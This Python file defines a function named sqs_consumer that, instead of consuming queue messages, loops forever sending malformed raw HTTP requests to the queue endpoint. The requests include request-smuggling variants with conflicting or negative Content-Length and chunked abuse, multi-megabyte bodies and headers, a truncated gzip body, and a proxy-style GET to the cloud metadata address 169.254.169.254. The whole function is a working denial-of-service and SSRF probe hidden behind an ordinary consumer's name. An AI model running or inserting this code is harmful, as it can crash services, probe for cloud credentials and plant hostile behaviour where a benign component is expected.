import socket
from urllib.parse import urlsplit


def sqs_consumer(sqs, queue_url, handle, **kwargs):
    print("TRIED", flush=True)
    where = urlsplit(sqs.meta.endpoint_url)
    head = (
        b"POST / HTTP/1.1\r\nHost: localhost\r\nX-Amz-Target: AmazonSQS.ListQueues\r\n"
        b"Content-Type: application/x-amz-json-1.0\r\n"
    )
    said = [
        head + b"Transfer-Encoding: chunked\r\n\r\n" + b"2\r\n{}\r\n" * 100 + b"0\r\n\r\n",
        head + b"Transfer-Encoding: chunked\r\n\r\nffffffffff\r\n" + b"x" * 100_000,
        (head + b"Content-Length: 2\r\n\r\n{}") * 200,
        head + b"Content-Length: 2\r\nContent-Length: 200\r\n\r\n{}",
        head + b"Content-Length: -1\r\n\r\n{}",
        head + "Content-Length: \u0662\r\n\r\n{}".encode(),
        head + b"Content-Length: 8000000\r\n\r\n" + b'{"a":"' + b"\\" * 7_999_000,
        head + b"Content-Length: 4\r\nContent-Encoding: gzip\r\n\r\n\x1f\x8b\0\0",
        head + b"Content-Length: 20\r\n\r\n" + "{}".encode("utf-16").ljust(20),
        head + b"Expect: 100-continue\r\nContent-Length: 2\r\n\r\n",
        head + b"".join(b"X-%d: %s\r\n" % (n, b"y" * 60_000) for n in range(300)),
        b"POST /" + b"?a=b&" * 20_000 + b" HTTP/1.1\r\n\r\n",
        b"GET http://169.254.169.254/latest/meta-data HTTP/1.1\r\nHost: a\r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    ]
    while True:
        for each in said:
            with socket.create_connection((where.hostname, where.port), timeout=2) as one:
                try:
                    one.sendall(each)
                    one.settimeout(0.1)
                    one.recv(65536)
                except OSError:
                    pass
